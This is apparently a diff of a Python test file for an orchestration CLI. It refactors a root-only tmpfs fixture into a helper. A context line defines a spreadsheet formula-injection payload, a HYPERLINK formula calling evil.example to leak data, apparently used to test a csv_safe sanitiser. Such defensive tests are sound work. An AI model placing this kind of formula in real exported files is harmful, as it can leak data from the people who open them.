@@ -19,7 +19,7 @@ from click.testing import CliRunner
 from orchestration.cli import main, summary_guard
 from orchestration.paths import SAMPLE_INTEROP
 from orchestration.serve.published import csv_safe
-from tests.conftest import DashboardServer
+from tests.conftest import DashboardServer, tmpfs
 
 SCOMM = str(Path(sys.executable).parent / "scomm")
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click me")'
@@ -410,13 +410,8 @@ def test_the_next_run_does_not_depend_on_a_failed_runs_leftovers(sample_copy):
 @pytest.fixture
 def disk(tmp_path):
     """A 64 MB tmpfs (needs root, which CI has)."""
-    if os.geteuid() != 0:
-        pytest.skip("mounting a tmpfs needs root; CI runs as root")
-    mount = tmp_path / "disk"
-    mount.mkdir()
-    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64m", "tmpfs", str(mount)], check=True)
-    yield mount
-    subprocess.run(["umount", "-l", str(mount)], check=False)
+    with tmpfs(tmp_path / "disk", "64m") as mount:
+        yield mount
 
 
 @pytest.mark.xdist_group("hostile_runs")
